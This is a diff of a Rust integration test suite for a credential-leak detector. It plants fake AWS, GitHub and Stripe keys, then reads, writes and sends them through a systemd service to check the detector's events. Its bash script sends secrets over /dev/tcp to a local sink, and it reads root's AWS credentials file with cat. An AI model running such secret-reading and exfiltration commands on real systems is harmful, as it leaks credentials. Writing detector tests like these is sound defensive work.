@@ -6,7 +6,7 @@ use crate::{
     command::{act, sh},
     events::{Ask as _, Event, now_ns, of_kind, wall_ns},
     machine::{Scratch, patience, slowness, turn, wait_for},
-    plant,
+    plant::{self, Planted},
     server::{Sink, TlsServer},
     service::{
         SOCKET, Service, UNIT, Watch, journal, property, remove_unit, socket, systemctl, write_unit,
@@ -32,7 +32,7 @@ pub fn the_unit_is_sound() {
     drop(service);
 }
 
-/// Sends a token in clear and over TLS.
+/// Reads a key, sends a token in clear and over TLS, and writes a key to places no rule names.
 struct Acts {
     server: TlsServer,
     sink: Sink,
@@ -50,8 +50,31 @@ impl Acts {
     }
 
     fn are_seen(&self, watch: &Watch) {
+        self.a_read(watch);
         self.a_send_in_clear(watch);
         self.a_send_over_tls(watch);
+        // Places that the unit leaves to the agent for reading only, and one in memory.
+        for dir in ["/var/lib", "/root", "/tmp", "/dev/shm"] {
+            a_write(watch, Path::new(dir));
+        }
+    }
+
+    /// root's own file, in a place that the rules watch.
+    fn a_read(&self, watch: &Watch) {
+        let (key, file) = plant::aws_credentials(Path::new("/root"));
+        // It is seen to appear.
+        std::thread::sleep(patience(1));
+        // Under emulation it may be read before the agent got to it: then that is a gap, and the next read is seen.
+        let readers = sh("for n in 1 2 3 4 5 6; do cat \"$1\"; sleep 5; done")
+            .arg(&file)
+            .spawn();
+        let read = watch.expect("the read", |e| {
+            e.is("credential_read") && e.in_tree(readers.pid())
+        });
+        assert!(read.shows(&key), "{}", read.brief());
+        assert_eq!(Path::new(read.path()), file, "{}", read.brief());
+        assert!(read.executable().ends_with("/cat"), "{}", read.brief());
+        fs::remove_file(file).unwrap();
     }
 
     fn a_send_in_clear(&self, watch: &Watch) {
@@ -90,6 +113,32 @@ impl Acts {
         assert_eq!(sent.channel(), "tls", "{text}");
         assert_eq!(sent.peer().1, u32::from(self.server.port), "{text}");
     }
+}
+
+/// A key in a file that no rule names: found by fanotify and a handle, which the unit has to let through.
+fn a_write(watch: &Watch, dir: &Path) {
+    let key = plant::aws();
+    let file = dir.join(format!("notes-{}.txt", plant::text(plant::BASE62, 8)));
+    let done = sh("cat > \"$1\" || exit 1; :")
+        .arg(&file)
+        .stdin(notes(&key))
+        .run()
+        .ok();
+    let event = watch.expect("the new credential", |e| {
+        e.is("credential_created") && Path::new(e.path()) == file
+    });
+    let text = event.brief();
+    assert!(event.shows(&key), "{text}");
+    assert!(event.in_tree(done.pid), "the writer is not named: {text}");
+    fs::remove_file(file).unwrap();
+}
+
+fn notes(key: &Planted) -> String {
+    format!(
+        "the exporter's key, for now:\naws_access_key_id = {}\naws_secret_access_key = {}\n",
+        key.identifier.as_deref().unwrap(),
+        key.value
+    )
 }
 
 /// Installed and started by the README's words: active, and it sees and tells.
@@ -246,6 +295,7 @@ pub fn no_call_is_forbidden() {
         let started = Service::start();
         let watch = Watch::start(&started, &acts.scratch.join("watch.stderr"));
         acts.are_seen(&watch);
+        a_file_system_comes_and_goes(&watch, &acts.scratch);
         started.keytrail(&["doctor"]).run().ok();
         started.stop();
         started
@@ -270,26 +320,44 @@ pub fn no_call_is_forbidden() {
     }
 }
 
-/// A service with a secret in its `EnvironmentFile=` that sends it: its unit, user and cgroup stand in the events.
+/// A mount of later is seen into, and can be unmounted.
+fn a_file_system_comes_and_goes(watch: &Watch, scratch: &Scratch) {
+    let point = scratch.make("mnt");
+    act("mount")
+        .args(["-t", "tmpfs", "none"])
+        .arg(&point)
+        .run()
+        .ok();
+    std::thread::sleep(patience(1));
+    a_write(watch, &point);
+    act("umount").arg(&point).run().ok();
+}
+
+/// A service with a secret in `EnvironmentFile=` and one in `LoadCredential=` that sends both: its unit, user and
+/// cgroup stand in the events.
 pub fn a_service_is_named() {
     let _turn = turn();
     let scratch = Scratch::new();
     let sink = Sink::silent();
     let service = Service::start();
     let watch = Watch::start(&service, &scratch.join("watch.stderr"));
-    let token = plant::github();
+    let (token, loaded) = (plant::github(), plant::stripe());
     let dir = scratch.make("etc");
     fs::write(dir.join("env"), format!("GITHUB_TOKEN={}\n", token.value)).unwrap();
+    fs::write(dir.join("stripe"), &loaded.value).unwrap();
     let script = dir.join("upload");
     fs::write(
         &script,
-        "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/$1\nprintf 'token %s\\n' \"$GITHUB_TOKEN\" >&3\nexec sleep 600\n",
+        "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/$1\nprintf 'token %s\\n' \"$GITHUB_TOKEN\" >&3\n\
+         for n in 1 2 3 4 5 6; do sleep 5; read -r key <\"$CREDENTIALS_DIRECTORY/stripe\"\n\
+         printf 'key %s\\n' \"$key\" >&3; done\nexec sleep 600\n",
     )
     .unwrap();
     write_unit(
         "uploader.service",
         &format!(
-            "[Service]\nType=exec\nUser=www-data\nEnvironmentFile={dir}/env\nExecStart=/bin/bash {script} {port}\n",
+            "[Service]\nType=exec\nUser=www-data\nEnvironmentFile={dir}/env\nLoadCredential=stripe:{dir}/stripe\n\
+             ExecStart=/bin/bash {script} {port}\n",
             dir = dir.display(),
             script = script.display(),
             port = sink.port
@@ -297,21 +365,41 @@ pub fn a_service_is_named() {
     );
     let done = systemctl(&["start", "uploader"]);
     assert!(done.status.success(), "{}", journal("uploader.service"));
-    wait_for("the secret at the server", patience(10), || {
-        sink.has(&token.value).then_some(())
-    });
-    let sent = watch.expect("the send", |e| {
-        e.is("credential_sent") && e.peer().1 == u32::from(sink.port)
-    });
-    assert_eq!(sent.source_type(), "env", "{}", sent.brief());
-    assert_eq!(sent.env_name(), "GITHUB_TOKEN", "{}", sent.brief());
-    assert_eq!(sent.grade(), "observed", "{}", sent.brief());
-    let exposed = watch.expect("the exposure", |e| {
-        e.is("credential_exposed") && e.fingerprint() == sent.fingerprint()
-    });
-    for event in [&sent, &exposed] {
+    for planted in [&token, &loaded] {
+        wait_for("the secret at the server", patience(10), || {
+            sink.has(&planted.value).then_some(())
+        });
+    }
+    let sent = |kind: &str| {
+        watch.expect(&format!("the send of the {kind}"), |e| {
+            e.is("credential_sent") && e.source_type() == kind && e.peer().1 == u32::from(sink.port)
+        })
+    };
+    let by_env = sent("env");
+    assert_eq!(by_env.source_type(), "env", "{}", by_env.brief());
+    assert_eq!(by_env.env_name(), "GITHUB_TOKEN", "{}", by_env.brief());
+    let by_file = sent("file");
+    assert_eq!(by_file.source_type(), "file", "{}", by_file.brief());
+    assert_eq!(
+        by_file.path(),
+        "/run/credentials/uploader.service/stripe",
+        "{}",
+        by_file.brief()
+    );
+    for event in [&by_env, &by_file] {
+        assert_eq!(event.grade(), "observed", "{}", event.brief());
         is_the_uploader(event);
     }
+    let exposed = watch.expect("the exposure", |e| {
+        e.is("credential_exposed")
+            && e.fingerprint() == by_env.fingerprint()
+            && e.executable().ends_with("/bash")
+    });
+    is_the_uploader(&exposed);
+    let read = watch.expect("the read", |e| {
+        e.is("credential_read") && e.path() == by_file.path()
+    });
+    is_the_uploader(&read);
     systemctl(&["stop", "uploader"]).ok();
     remove_unit("uploader.service");
 }
